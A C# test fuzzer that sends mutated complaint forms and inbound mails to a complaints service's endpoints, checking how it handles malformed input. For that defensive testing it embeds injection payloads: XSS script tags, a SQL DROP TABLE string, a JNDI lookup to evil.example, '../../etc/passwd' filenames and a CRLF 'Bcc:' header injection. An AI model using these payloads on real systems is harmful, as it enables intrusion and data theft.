using System.Globalization;
using System.Text;

namespace ComplaintFunctions.Tests.Faults;

/// <summary>The doors the hostile-input scenario knocks on.</summary>
public enum HostileDoor
{
    Json,
    UrlEncodedForm,
    MultipartForm,
    MailRaw,
    MailParsed,
    Staff,
}

/// <summary>One post the fuzzer sends: its bytes as they go on the wire, and which mutations made them.</summary>
public sealed record HostilePost(int Number, HostileDoor Door, string Path, byte[] Body, string? ContentType, IReadOnlyList<string> Mutations)
{
    /// <summary>Sent without a Content-Length (chunked), so the door cannot refuse it by its header.</summary>
    public bool Chunked { get; init; }

    /// <summary>Sent with <c>Accept: text/html</c>, as a browser posts the form.</summary>
    public bool WantsHtml { get; init; }

    public string? IdempotencyKey { get; init; }

    /// <summary>Meant to be over the door's size limit (413 expected).</summary>
    public bool OverLimit { get; init; }

    public bool IsMail => Door is HostileDoor.MailRaw or HostileDoor.MailParsed;

    /// <summary>A seed as it is: valid input the door must accept.</summary>
    public bool Unmutated => Mutations.Count == 0;

    public string Describe() => $"#{Number} {Door}{(OverLimit ? " (over limit)" : string.Empty)}{(Chunked ? " chunked" : string.Empty)}: {(Unmutated ? "the seed, unmutated" : string.Join(", ", Mutations))}";
}

/// <summary>
/// A mutation fuzzer over a seed corpus of valid complaints and mails: every post starts as a valid
/// input with its own marker (<c>fz{n}</c> in the text, <c>fz{n}@example.com</c> as the sender) and
/// gets one to three mutations drawn from <see cref="Random"/> with a fixed seed, so a run is repeated
/// exactly by its seed. A few posts are over the door's limit on purpose.
/// </summary>
public sealed class HostileCorpus(int seed, string inboundSecret)
{
    /// <summary>Over the JSON and form door's 256 KB.</summary>
    const int OverWebLimitBytes = 300 * 1024;

    /// <summary>Over the mail door's 30 MB.</summary>
    const int OverMailLimitBytes = 30 * 1024 * 1024 + 64 * 1024;

    static readonly string[] Categories = ["claim", "doa", "warranty", "service", "support", "delivery", "other"];
    static readonly string[] Languages = ["nb", "sv", "da", "fi", "en"];
    static readonly string[] Countries = ["NO", "SE", "DK", "FI"];

    static readonly string[] HostileTexts =
    [
        "\u202Egnp.exe\u202C rtl override",
        "line one\r\nKategori: ombudsman\r\n",
        "tab\tand\vvertical\fform feed\u0085next line\u2028line separator",
        "\u0000nul in the middle\u0000",
        "emoji 😀 and combining a\u0301\u0308\u20DD",
        "<script>alert(1)</script><img src=x onerror=alert(2)>",
        "' OR 1=1; -- \"; DROP TABLE cases;",
        "${jndi:ldap://evil.example/a} {{7*7}} %s%s%n",
        "\uFEFFbom inside \uFFFE\uFFFF noncharacters",
        "zero\u200Bwidth\u200Djoiner\u2060",
        "ﷺ𒐫𒈙 long graphemes ꧅",
    ];

    readonly Random random = new(seed);
    readonly List<string> messageIds = [];
    readonly List<string> idempotencyKeys = [];
    bool plain;

    public int Seed => seed;

    /// <summary>The inputs, made one at a time as they are taken (the same sequence for the same seed).</summary>
    public IEnumerable<HostilePost> Posts(int count, int overLimitMails)
    {
        // The over-limit mails at fixed places, spread over the run; they are big, so only a few.
        var bigMails = Enumerable.Range(1, overLimitMails).Select(i => i * count / (overLimitMails + 1)).ToHashSet();
        for (var n = 0; n < count; n++)
        {
            if (bigMails.Contains(n))
            {
                yield return OverLimitMail(n, chunked: n % 2 == 1);
                continue;
            }

            // The first inputs are each door's seed as it is, so a run shows the seeds are still valid input.
            plain = n < Enum.GetValues<HostileDoor>().Length;
            var pick = random.Next(100);
            var door = plain ? (HostileDoor)n : pick switch
            {
                < 30 => HostileDoor.Json,
                < 42 => HostileDoor.UrlEncodedForm,
                < 50 => HostileDoor.MultipartForm,
                < 70 => HostileDoor.MailRaw,
                < 92 => HostileDoor.MailParsed,
                _ => HostileDoor.Staff,
            };
            var overLimit = !plain && door is HostileDoor.Json or HostileDoor.UrlEncodedForm or HostileDoor.MultipartForm && random.Next(60) == 0;
            yield return door switch
            {
                HostileDoor.Json or HostileDoor.Staff => Json(n, door, overLimit),
                HostileDoor.UrlEncodedForm => UrlEncoded(n, overLimit),
                HostileDoor.MultipartForm => Multipart(n, overLimit),
                HostileDoor.MailRaw => MailRaw(n),
                _ => MailParsed(n),
            };
        }
    }

    // One to three mutations, none for a plain seed.
    int Mutations() => plain ? 0 : 1 + random.Next(3);

    T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    string Hostile() => Pick(HostileTexts);

    static string Marker(int n) => string.Create(CultureInfo.InvariantCulture, $"fz{n}");

    static string Email(int n) => string.Create(CultureInfo.InvariantCulture, $"fz{n}@example.com");

    List<KeyValuePair<string, string>> WebFields(int n, bool staff)
    {
        var fields = new List<KeyValuePair<string, string>>
        {
            new("name", $"Fuzz Person {n}"),
            new("email", Email(n)),
            new("phone", "+47 912 34 567"),
            new("orderNumber", $"A-{n}"),
            new("product", "Lader"),
            new("manufacturer", "Acme"),
            new("purchaseDate", "2025-01-10"),
            new("deliveryDate", "2025-01-15"),
            new("category", Pick(Categories)),
            new("description", $"{Marker(n)}: the charger stopped working after a month."),
            new("language", Pick(Languages)),
            new("country", Pick(Countries)),
        };
        if (staff)
        {
            fields.Add(new("channel", random.Next(2) == 0 ? "phone" : "chat"));
        }

        return fields;
    }

    // ---- JSON (the API and the agents' door) ----

    HostilePost Json(int n, HostileDoor door, bool overLimit)
    {
        // Each field's value as raw JSON text, so wrong types and escapes the serializer would never write can be placed.
        var fields = WebFields(n, door == HostileDoor.Staff).Select(f => new KeyValuePair<string, string>(f.Key, JsonString(f.Value))).ToList();
        var names = new List<string>();
        string? contentType = "application/json";
        string? key = null;
        var byteEdits = new List<Func<byte[], byte[]>>();
        if (overLimit)
        {
            Set(fields, "description", JsonString(Marker(n) + new string('x', OverWebLimitBytes)));
            names.Add("description over 256 KB");
        }

        for (var i = overLimit ? 0 : Mutations(); i > 0; i--)
        {
            var field = Target(fields);
            switch (random.Next(22))
            {
                case 0:
                    Set(fields, field, JsonString(Marker(n) + " lone ")[..^1] + "\\ud800 surrogate\"");
                    names.Add($"lone surrogate in {field}");
                    break;
                case 1:
                    Set(fields, field, $"\"{Marker(n)} \\u0000 nul\"");
                    names.Add($"escaped NUL in {field}");
                    break;
                case 2:
                    Set(fields, field, JsonString($"{Marker(n)} {Hostile()}"));
                    names.Add($"hostile text in {field}");
                    break;
                case 3:
                    // Written unescaped (the serializer would write \u00F8), so the body stays under the door's limit.
                    Set(fields, field, $"\"{Marker(n)}{new string('ø', 100_000)}\"");
                    names.Add($"100k chars in {field}");
                    break;
                case 4:
                    fields.Add(new("extra", new string('[', 5000) + new string(']', 5000)));
                    names.Add("5000-deep array");
                    break;
                case 5:
                    fields.Add(new("extra", string.Concat(Enumerable.Repeat("{\"a\":", 40)) + "1" + new string('}', 40)));
                    names.Add("40-deep object");
                    break;
                case 6:
                    Set(fields, field, Pick(["123", "-1e308", "1e999", "true", "null", "{\"value\":\"x\"}", "[\"a\",\"b\"]", "\"\""]));
                    names.Add($"wrong type in {field}");
                    break;
                case 7:
                    fields.Add(new(Pick(["email", "description", "name", "EMAIL"]), JsonString("dup-" + Email(n))));
                    names.Add("duplicate key");
                    break;
                case 8:
                    byteEdits.Add(b => b.AsSpan(0, b.Length - 1).ToArray());
                    names.Add("missing closing brace");
                    break;
                case 9:
                    byteEdits.Add(b => [0xEF, 0xBB, 0xBF, .. b]);
                    names.Add("BOM");
                    break;
                case 10:
                    byteEdits.Add(b => InsertInside(b, (byte)'"', Pick<byte[]>([[0xFF], [0xC3, 0x28], [0xED, 0xA0, 0x80], [0xC0, 0xAF], [0xF8, 0x88, 0x80, 0x80, 0x80]])));
                    names.Add("invalid UTF-8 bytes");
                    break;
                case 11:
                    contentType = Pick<string?>([null, "text/plain", "application/json; charset=iso-8859-1", "application/json; charset=utf-16", "application/problem+json", "APPLICATION/JSON", "application/x-www-form-urlencoded", "multipart/form-data", "application/json; charset=\"unknown\"; ;;", "*/*", "json", "application/xml"]);
                    names.Add($"content type {contentType ?? "(none)"}");
                    break;
                case 12:
                    key = new string('k', 300);
                    names.Add("300-char Idempotency-Key");
                    break;
                case 13:
                    key = idempotencyKeys.Count > 0 && random.Next(2) == 0 ? Pick(idempotencyKeys) : $"key-{seed}-{n}";
                    idempotencyKeys.Add(key);
                    names.Add("Idempotency-Key (maybe reused)");
                    break;
                case 14:
                    fields.RemoveAll(f => f.Key == field);
                    names.Add($"missing {field}");
                    break;
                case 15:
                    byteEdits.Add(b => Pick<byte[]>(["[]"u8.ToArray(), "\"just a string\""u8.ToArray(), "null"u8.ToArray(), "1"u8.ToArray(), [], " "u8.ToArray(), [.. b, .. b]]));
                    names.Add("not an object");
                    break;
                case 17 or 18:
                    foreach (var oneLine in new[] { "name", "product", "orderNumber", "manufacturer" })
                    {
                        Set(fields, oneLine, JsonString($"{Marker(n)} {Hostile()}"));
                    }

                    names.Add("hostile text in every one-line field");
                    break;
                case 16:
                    Set(fields, field, JsonString(Marker(n)) + " /* comment */ ");
                    byteEdits.Add(b => [.. b, .. ","u8]);
                    names.Add("comment and trailing comma");
                    break;
                default:
                    byteEdits.Add(ByteEdit(names));
                    break;
            }
        }

        var body = Encoding.UTF8.GetBytes("{" + string.Join(",", fields.Select(f => $"{JsonString(f.Key)}:{f.Value}")) + "}");
        body = byteEdits.Aggregate(body, (b, edit) => edit(b));
        var path = door == HostileDoor.Staff ? "/api/staff/complaints" : "/api/complaints";
        return new HostilePost(n, door, path, body, contentType, names) { IdempotencyKey = key, OverLimit = overLimit, Chunked = overLimit && random.Next(2) == 0 };
    }

    // ---- the browser's form, urlencoded ----

    HostilePost UrlEncoded(int n, bool overLimit)
    {
        var fields = WebFields(n, staff: false);
        var names = new List<string>();
        var contentType = "application/x-www-form-urlencoded";
        var byteEdits = new List<Func<byte[], byte[]>>();
        if (overLimit)
        {
            Set(fields, "description", Marker(n) + new string('x', OverWebLimitBytes));
            names.Add("description over 256 KB");
        }

        for (var i = overLimit ? 0 : Mutations(); i > 0; i--)
        {
            var field = Target(fields);
            switch (random.Next(12))
            {
                case 0:
                    Set(fields, field, $"{Marker(n)} {Hostile()}");
                    names.Add($"hostile text in {field}");
                    break;
                case 1:
                    Set(fields, field, Marker(n) + new string('å', 60_000));
                    names.Add($"60k chars in {field}");
                    break;
                case 2:
                    fields.Add(new(Pick(["email", "description", "idempotencyKey", "Email"]), "dup-" + Email(n)));
                    names.Add("duplicate key");
                    break;
                case 3:
                    fields.RemoveAll(f => f.Key == field);
                    names.Add($"missing {field}");
                    break;
                case 4:
                    byteEdits.Add(b => [.. b, .. Pick<byte[]>(["&%ZZ=%"u8.ToArray(), "&=&&==&"u8.ToArray(), "&a=%C3%28%ED%A0%80%FF"u8.ToArray(), "&description=%00"u8.ToArray(), "&x"u8.ToArray(), "&name=%E2%80%AE%0D%0A"u8.ToArray()])]);
                    names.Add("broken percent-encoding");
                    break;
                case 5:
                    byteEdits.Add(b => InsertAt(b, Pick<byte[]>([[0xFF, 0xFE], [0xC3, 0x28], [0x00], [0x0D, 0x0A], [0xED, 0xA0, 0x80]])));
                    names.Add("raw bytes");
                    break;
                case 6:
                    contentType = Pick(["application/x-www-form-urlencoded; charset=iso-8859-1", "application/x-www-form-urlencoded; charset=unknown-charset", "application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded;;;", "text/plain", "application/json"]);
                    names.Add($"content type {contentType}");
                    break;
                case 7:
                    fields.AddRange(Enumerable.Range(0, 1100).Select(k => new KeyValuePair<string, string>($"f{k}", "v")));
                    names.Add("1100 fields");
                    break;
                default:
                    byteEdits.Add(ByteEdit(names));
                    break;
            }
        }

        var body = Encoding.ASCII.GetBytes(string.Join("&", fields.Select(f => $"{Uri.EscapeDataString(f.Key)}={Uri.EscapeDataString(f.Value)}")));
        body = byteEdits.Aggregate(body, (b, edit) => edit(b));
        return new HostilePost(n, HostileDoor.UrlEncodedForm, "/api/complaints", body, contentType, names)
        {
            WantsHtml = random.Next(2) == 0,
            OverLimit = overLimit,
            Chunked = overLimit && random.Next(2) == 0,
        };
    }

    // ---- the browser's form, multipart/form-data ----

    HostilePost Multipart(int n, bool overLimit)
    {
        var boundary = $"----fuzz{seed}x{n}";
        var parts = WebFields(n, staff: false).Select(f => Part(f.Key, Encoding.UTF8.GetBytes(f.Value))).ToList();
        var names = new List<string>();
        var contentType = $"multipart/form-data; boundary={boundary}";
        var closing = true;
        var byteEdits = new List<Func<byte[], byte[]>>();
        if (overLimit)
        {
            parts.Add(Part("attachment", new byte[OverWebLimitBytes], "photo.jpg"));
            names.Add("file over 256 KB");
        }

        for (var i = overLimit ? 0 : Mutations(); i > 0; i--)
        {
            switch (random.Next(12))
            {
                case 0:
                    contentType = "multipart/form-data";
                    names.Add("no boundary");
                    break;
                case 1:
                    contentType = "multipart/form-data; boundary=not-the-one";
                    names.Add("wrong boundary");
                    break;
                case 2:
                    closing = false;
                    names.Add("no closing boundary");
                    break;
                case 3:
                    parts.Add(Encoding.ASCII.GetBytes("X-No-Disposition: yes\r\n\r\nwhat am I\r\n"));
                    names.Add("part without Content-Disposition");
                    break;
                case 4:
                    parts.Add(Encoding.ASCII.GetBytes($"Content-Disposition: form-data; name=\"x\"\r\nX-Long: {new string('h', 20_000)}\r\n\r\nv\r\n"));
                    names.Add("20k header line in a part");
                    break;
                case 5:
                    parts.Add(Part("file", [0x00, 0xFF, 0xD8, 0xFF, .. Encoding.UTF8.GetBytes(Hostile())], "..\\..\\etc/passwd\u0000.jpg"));
                    names.Add("file with a hostile name");
                    break;
                case 6:
                    parts[random.Next(parts.Count)] = Part("description", [.. Encoding.UTF8.GetBytes(Marker(n) + " "), 0xC3, 0x28, 0xFF, 0x00]);
                    names.Add("invalid UTF-8 in description");
                    break;
                case 7:
                    var inner = $"inner{n}";
                    parts.Add(Encoding.ASCII.GetBytes(
                        $"Content-Disposition: form-data; name=\"nested\"\r\nContent-Type: multipart/mixed; boundary={inner}\r\n\r\n--{inner}\r\nContent-Type: text/plain\r\n\r\nhi\r\n--{inner}--\r\n"));
                    names.Add("nested multipart");
                    break;
                case 8:
                    contentType = $"multipart/form-data; boundary=\"{boundary}\"; charset=unknown";
                    names.Add("charset=unknown");
                    break;
                case 9:
                    parts.AddRange(Enumerable.Range(0, 1100).Select(k => Part($"f{k}", "v"u8.ToArray())));
                    names.Add("1100 parts");
                    break;
                default:
                    byteEdits.Add(ByteEdit(names));
                    break;
            }
        }

        using var body = new MemoryStream();
        foreach (var part in parts)
        {
            body.Write(Encoding.ASCII.GetBytes($"--{boundary}\r\n"));
            body.Write(part);
        }

        if (closing)
        {
            body.Write(Encoding.ASCII.GetBytes($"--{boundary}--\r\n"));
        }

        var bytes = byteEdits.Aggregate(body.ToArray(), (b, edit) => edit(b));
        return new HostilePost(n, HostileDoor.MultipartForm, "/api/complaints", bytes, contentType, names)
        {
            WantsHtml = random.Next(2) == 0,
            OverLimit = overLimit,
            Chunked = overLimit && random.Next(2) == 0,
        };

        static byte[] Part(string name, byte[] value, string? fileName = null) =>
        [
            .. Encoding.UTF8.GetBytes($"Content-Disposition: form-data; name=\"{name}\"{(fileName is null ? string.Empty : $"; filename=\"{fileName}\"")}\r\n"),
            .. fileName is null ? [] : "Content-Type: application/octet-stream\r\n"u8.ToArray(),
            .. "\r\n"u8,
            .. value,
            .. "\r\n"u8,
        ];
    }

    // ---- mail: SendGrid's raw mode ----

    string NewMessageId(int n)
    {
        // Now and then a Message-ID another mail had already: a different mail, so it must be kept as well.
        var id = !plain && messageIds.Count > 0 && random.Next(8) == 0 ? Pick(messageIds) : $"<fz{n}.{seed}@fuzz.example>";
        messageIds.Add(id);
        return id;
    }

    HostilePost MailRaw(int n)
    {
        var names = new List<string>();
        var headers = new List<string>
        {
            $"Message-ID: {NewMessageId(n)}",
            "Date: Mon, 3 Mar 2025 08:41:10 +0100",
            $"From: Fuzz Person <{Email(n)}>",
            "To: Kundeservice <kundeservice@example.no>",
            $"Subject: Reklamasjon {Marker(n)}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: 8bit",
        };
        var body = Encoding.UTF8.GetBytes($"Hei,\r\n\r\n{Marker(n)}: laderen virker ikke etter en måned. Ordre 12345.\r\n\r\nFuzz Person\r\n");
        var mimeEdits = new List<Func<byte[], byte[]>>();
        var formEdits = new List<Func<byte[], byte[]>>();
        var boundary = $"sg{seed}x{n}";
        string? formContentType = $"multipart/form-data; boundary={boundary}";
        var secret = inboundSecret;
        var to = "kundeservice@example.no";
        var envelope = $$"""{"to":["kundeservice@example.no"],"from":"{{Email(n)}}"}""";
        if (!headers[0].Contains($"fz{n}.", StringComparison.Ordinal))
        {
            names.Add("Message-ID reused");
        }

        void Header(string name, string value)
        {
            headers.RemoveAll(h => h.StartsWith(name + ":", StringComparison.OrdinalIgnoreCase));
            headers.Add($"{name}: {value}");
        }

        for (var i = Mutations(); i > 0; i--)
        {
            switch (random.Next(28))
            {
                case 0:
                    headers.Insert(random.Next(headers.Count + 1), Pick(["This line has no colon", ": starts with a colon", "Bad Header Name: x", " folded continuation with nothing before", "\tX-Tab: y", "X-Empty:", new string('A', 1000) + ":b"]));
                    names.Add("broken header");
                    break;
                case 1:
                    headers.RemoveAll(h => h.StartsWith("From:", StringComparison.Ordinal));
                    names.Add("missing From");
                    break;
                case 2:
                    Header("Subject", $"{Marker(n)} " + new string('S', random.Next(2) == 0 ? 100_000 : 998));
                    names.Add("huge header line");
                    break;
                case 3:
                    (headers, body) = Nested(headers, body, n, depth: 50, close: random.Next(2) == 0);
                    names.Add("multiparts 50 deep");
                    break;
                case 4:
                    Header("Content-Transfer-Encoding", "base64");
                    body = Pick<byte[]>(["!!!not base64@@@===\r\n====\r\n"u8.ToArray(), [.. Encoding.ASCII.GetBytes(Convert.ToBase64String(body))[..^3], .. "*\r\n"u8]]);
                    names.Add("bad base64");
                    break;
                case 5:
                    Header("Content-Transfer-Encoding", "quoted-printable");
                    body = [.. Encoding.ASCII.GetBytes($"{Marker(n)} =ZZ=4=\r\n=E2=80=\r\nsoft break at end=")];
                    names.Add("bad quoted-printable");
                    break;
                case 6:
                    Header("Content-Type", Pick(["text/plain; charset=unknown", "text/plain; charset=utf-16", "text/plain; charset=\"\"", "text/plain; charset=utf-7", "text/plain; charset=x-mac-ce;;; format=flowed; delsp=yes", "text/html; charset=utf-32"]));
                    names.Add("odd charset");
                    break;
                case 7:
                    Header("Subject", Pick(["=?utf-8?B?!!!!?= =?unknown?Q?=FF=FE?=", "=?utf-8?Q?=E2=80=AE=0D=0AKategori:_x?=", "=?=?=?", "=?utf-16?B?2AA=?= lone", "=?iso-8859-1?q?=E6=F8=E5?= =?utf-8?b?" + new string('A', 5000) + "?="]));
                    names.Add("encoded-word garbage in Subject");
                    break;
                case 8:
                    Header("From", Pick([$"=?utf-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes("Kari\r\nKategori: x"))}?= <{Email(n)}>", $"=?utf-8?Q?=E2=80=AE?= <{Email(n)}>", $"\"unclosed <{Email(n)}>", $"<<<{Email(n)}>>>", "@@@", "undisclosed-recipients:;", $"a@b@c <{Email(n)}>, ,,, <>"]));
                    names.Add("odd From");
                    break;
                case 9:
                    mimeEdits.Add(b => InsertAt(b, [0x00]));
                    names.Add("NUL byte");
                    break;
                case 10:
                    body = [.. body, 0xFF, 0xFE, 0xC3, 0x28, 0xED, 0xA0, 0x80];
                    Header("X-Bytes", Encoding.Latin1.GetString([0xE6, 0xF8, 0xE5, 0xFF]));
                    names.Add("8-bit bytes");
                    break;
                case 11:
                    mimeEdits.Add(b => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(b).Replace("\r\n", random.Next(2) == 0 ? "\n" : "\r", StringComparison.Ordinal)));
                    names.Add("bare line endings");
                    break;
                case 12:
                    Header("Content-Type", "multipart/mixed");
                    names.Add("multipart without boundary");
                    break;
                case 13:
                    mimeEdits.Add(b => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(b).Replace("\r\n\r\n", "\r\n", StringComparison.Ordinal)));
                    names.Add("no blank line after the headers");
                    break;
                case 14:
                    headers.AddRange(Enumerable.Range(0, 3000).Select(k => $"X-Many-{k}: {k}"));
                    names.Add("3000 headers");
                    break;
                case 15:
                    Header("Date", Pick(["yesterday", "Mon, 99 Foo 99999 99:99:99 +9999", string.Empty]));
                    names.Add("bad Date");
                    break;
                case 16:
                    Header(Pick(["In-Reply-To", "References"]), Pick(["<K-2025-0001-001.deadbeef@complaints.example>", "<<<>>>", "<" + new string('r', 3000) + ">", "[K-2025-9999-999]"]));
                    names.Add("forged case reference");
                    break;
                case 17:
                    Header("Subject", $"Re: [K-2025-{random.Next(10000):D4}-{random.Next(1000):D3}] {Marker(n)}");
                    names.Add("made-up case number in Subject");
                    break;
                case 18:
                    Header(Pick(["Auto-Submitted", "Precedence", "List-Id", "X-Autoreply"]), Pick(["auto-replied", "bulk", "<list.example>", "yes"]));
                    names.Add("machine-mail header");
                    break;
                case 19:
                    Header("Content-Type", "message/rfc822");
                    body = [.. "From: inner@example.com\r\nSubject: inner\r\n\r\n"u8, .. body];
                    names.Add("message/rfc822 body");
                    break;
                case 20:
                    formEdits.Add(b => b.AsSpan(0, random.Next(b.Length)).ToArray());
                    names.Add("form truncated");
                    break;
                case 21:
                    formContentType = Pick<string?>(["multipart/form-data", "text/plain", null, "multipart/form-data; boundary=other", "multipart/mixed; boundary=" + boundary, "application/x-www-form-urlencoded"]);
                    names.Add($"form content type {formContentType ?? "(none)"}");
                    break;
                case 22:
                    to = Pick(["", "<<>>", "kundeservice@example.no, " + new string('t', 5000) + "@x.no"]);
                    envelope = Pick(["not json", "{\"to\":5,\"from\":[1]}", new string('[', 3000), "{\"from\":\"\"}"]);
                    names.Add("odd to and envelope");
                    break;
                case 23 when random.Next(4) == 0:
                    secret = Pick(["wrong-secret", string.Empty]);
                    names.Add("wrong secret");
                    break;
                default:
                    mimeEdits.Add(ByteEdit(names));
                    break;
            }
        }

        var mime = Encoding.Latin1.GetBytes(string.Join("\r\n", headers) + "\r\n\r\n");
        mime = mimeEdits.Aggregate((byte[])[.. mime, .. body], (b, edit) => edit(b));
        var form = Form(boundary, [("email", mime, "message/rfc822"), ("to", Encoding.UTF8.GetBytes(to), null), ("envelope", Encoding.UTF8.GetBytes(envelope), null)]);
        form = formEdits.Aggregate(form, (b, edit) => edit(b));
        return new HostilePost(n, HostileDoor.MailRaw, InboundPath(secret), form, formContentType, names);
    }

    // Headers that make the body a multipart nested <paramref name="depth"/> deep, the text at the bottom.
    static (List<string> Headers, byte[] Body) Nested(List<string> headers, byte[] text, int n, int depth, bool close)
    {
        var top = headers.Where(h => !h.StartsWith("Content-", StringComparison.OrdinalIgnoreCase)).ToList();
        top.Add($"Content-Type: multipart/mixed; boundary=\"b{n}-0\"");
        var body = new StringBuilder();
        for (var d = 0; d < depth; d++)
        {
            body.Append(CultureInfo.InvariantCulture, $"--b{n}-{d}\r\n");
            body.Append(d == depth - 1 ? "Content-Type: text/plain; charset=utf-8\r\n\r\n" : $"Content-Type: multipart/mixed; boundary=\"b{n}-{d + 1}\"\r\n\r\n");
        }

        var tail = new StringBuilder("\r\n");
        if (close)
        {
            for (var d = depth - 1; d >= 0; d--)
            {
                tail.Append(CultureInfo.InvariantCulture, $"--b{n}-{d}--\r\n");
            }
        }

        return (top, [.. Encoding.ASCII.GetBytes(body.ToString()), .. text, .. Encoding.ASCII.GetBytes(tail.ToString())]);
    }

    // ---- mail: SendGrid's parsed mode ----

    HostilePost MailParsed(int n)
    {
        var names = new List<string>();
        var messageId = NewMessageId(n);
        var fields = new List<(string Name, byte[] Value, string? FileName)>
        {
            ("headers", Encoding.UTF8.GetBytes($"Message-ID: {messageId}\nFrom: Fuzz Person <{Email(n)}>\nTo: kundeservice@example.no\nSubject: Reklamasjon {Marker(n)}\nDate: Mon, 3 Mar 2025 08:41:10 +0100\n"), null),
            ("from", Encoding.UTF8.GetBytes($"Fuzz Person <{Email(n)}>"), null),
            ("to", "kundeservice@example.no"u8.ToArray(), null),
            ("subject", Encoding.UTF8.GetBytes($"Reklamasjon {Marker(n)}"), null),
            ("text", Encoding.UTF8.GetBytes($"{Marker(n)}: kjøleskapet lekker vann."), null),
            ("charsets", """{"to":"UTF-8","from":"UTF-8","subject":"UTF-8","text":"UTF-8","html":"UTF-8"}"""u8.ToArray(), null),
            ("envelope", Encoding.UTF8.GetBytes($$"""{"to":["kundeservice@example.no"],"from":"{{Email(n)}}"}"""), null),
            ("spam_score", "0.1"u8.ToArray(), null),
        };
        if (!messageId.Contains($"fz{n}.", StringComparison.Ordinal))
        {
            names.Add("Message-ID reused");
        }

        var boundary = $"sgp{seed}x{n}";
        var contentType = $"multipart/form-data; boundary={boundary}";
        var secret = inboundSecret;
        var formEdits = new List<Func<byte[], byte[]>>();
        void Field(string name, byte[] value)
        {
            fields.RemoveAll(f => f.Name == name);
            fields.Add((name, value, null));
        }

        for (var i = Mutations(); i > 0; i--)
        {
            switch (random.Next(22))
            {
                case 0:
                    Field("charsets", Pick(["{{{"u8.ToArray(), """{"text":"unknown-charset","subject":"x-fuzz"}"""u8.ToArray(), """{"text":"utf-16"}"""u8.ToArray(), """{"text":"utf-7","from":"utf-32"}"""u8.ToArray(), Encoding.ASCII.GetBytes(new string('[', 3000)), """{"text":5,"from":null}"""u8.ToArray()]));
                    names.Add("odd charsets");
                    break;
                case 1:
                    Field("text", [.. Encoding.UTF8.GetBytes(Marker(n) + " "), 0xFF, 0xC3, 0x28, 0xED, 0xA0, 0x80, 0x00, .. Encoding.UTF8.GetBytes(Hostile())]);
                    names.Add("invalid UTF-8 in text");
                    break;
                case 2:
                    Field("text", Encoding.UTF8.GetBytes(Marker(n) + new string('ø', 100_000)));
                    names.Add("100k-char text");
                    break;
                case 3:
                    Field("html", Encoding.UTF8.GetBytes(Pick([
                        string.Concat(Enumerable.Repeat("<div><blockquote>", 3000)) + Marker(n),
                        $"<script>{Marker(n)}",
                        $"<p>{Marker(n)} &#xFFFFFFFF; &#0; &#xD800; &#55296; &bogus; &amp &#x110000;</p>",
                        $"<pre>{Marker(n)}\r\n\r\n</pre></pre></blockquote></blockquote><pre>",
                        "<html><head><title>" + Marker(n),
                    ])));
                    if (random.Next(2) == 0)
                    {
                        fields.RemoveAll(f => f.Name == "text");
                    }

                    names.Add("hostile html");
                    break;
                case 4:
                    Field("headers", Pick([[0x00, 0xFF, .. "garbage"u8], Encoding.UTF8.GetBytes($"Subject: {new string('s', 100_000)}\nFrom: x"), "=?utf-8?B?!!!?=: x\n\n\nMessage-ID: <<>>\n"u8.ToArray(), [], Encoding.ASCII.GetBytes(string.Concat(Enumerable.Range(0, 3000).Select(k => $"X-H{k}: v\n")))]));
                    names.Add("odd headers block");
                    break;
                case 5:
                    fields.RemoveAll(f => f.Name == "headers");
                    names.Add("no headers block");
                    break;
                case 6:
                    fields.RemoveAll(f => f.Name == "from");
                    if (random.Next(2) == 0)
                    {
                        Field("headers", Encoding.UTF8.GetBytes($"Message-ID: {messageId}\nSubject: no sender {Marker(n)}\n"));
                    }

                    names.Add("missing from");
                    break;
                case 7:
                    Field("from", Encoding.UTF8.GetBytes(Pick(["@@@", "=?utf-8?B?!!!?= <>", $"\u202E <{Email(n)}>", $"{Email(n)}, other@example.com", "undisclosed-recipients:;", $"=?unknown?Q?=FF?= <{Email(n)}>"])));
                    names.Add("odd from");
                    break;
                case 8:
                    Field("envelope", Pick(["not json"u8.ToArray(), """{"to":5,"from":[1]}"""u8.ToArray(), Encoding.ASCII.GetBytes(new string('{', 3000)), """{"from":""}"""u8.ToArray()]));
                    names.Add("odd envelope");
                    break;
                case 9:
                    fields.Add(("attachment1", [0x25, 0x50, 0x44, 0x46, 0x00, 0xFF], Pick(["..\\..\\x.pdf", "\u0000.pdf", new string('n', 400) + ".pdf", "con", "a\r\nb.pdf"])));
                    Field("attachment-info", Pick(["{{"u8.ToArray(), """{"attachment1":{"filename":"../../etc/passwd","type":"text/html\r\n","content-id":"<>"}}"""u8.ToArray(), "[]"u8.ToArray()]));
                    Field("attachments", Pick(["99"u8.ToArray(), "-1"u8.ToArray(), "x"u8.ToArray()]));
                    names.Add("odd attachment");
                    break;
                case 10:
                    Field("subject", Encoding.UTF8.GetBytes(Pick(["=?utf-8?B?!!!!?=", $"Re: [K-2025-{random.Next(10000):D4}-{random.Next(1000):D3}] {Marker(n)}", $"{Marker(n)}\r\nBcc: x@evil.example", new string('s', 50_000)])));
                    names.Add("odd subject");
                    break;
                case 11:
                    fields.Add((Pick(["text", "from", "TEXT"]), Encoding.UTF8.GetBytes("dup " + Marker(n)), null));
                    names.Add("duplicate field");
                    break;
                case 12:
                    formEdits.Add(b => b.AsSpan(0, random.Next(b.Length)).ToArray());
                    names.Add("form truncated");
                    break;
                case 13:
                    contentType = Pick(["multipart/form-data", "text/plain", "multipart/form-data; boundary=other", "multipart/form-data; boundary=\"" + boundary]);
                    names.Add($"form content type {contentType}");
                    break;
                case 14 when random.Next(4) == 0:
                    secret = "wrong-secret";
                    names.Add("wrong secret");
                    break;
                case 15:
                    Field("headers", Encoding.UTF8.GetBytes($"Message-ID: {messageId}\nFrom: Fuzz Person <{Email(n)}>\nAuto-Submitted: auto-replied\nPrecedence: bulk\nSubject: Out of office {Marker(n)}\n"));
                    names.Add("machine-mail headers");
                    break;
                default:
                    formEdits.Add(ByteEdit(names));
                    break;
            }
        }

        var form = Form(boundary, fields.Select(f => (f.Name, f.Value, f.FileName is null ? null : "application/pdf", f.FileName)).ToList());
        form = formEdits.Aggregate(form, (b, edit) => edit(b));
        return new HostilePost(n, HostileDoor.MailParsed, InboundPath(secret), form, contentType, names);
    }

    // A mail over the door's 30 MB: one with its Content-Length (refused before reading), one chunked (refused while reading).
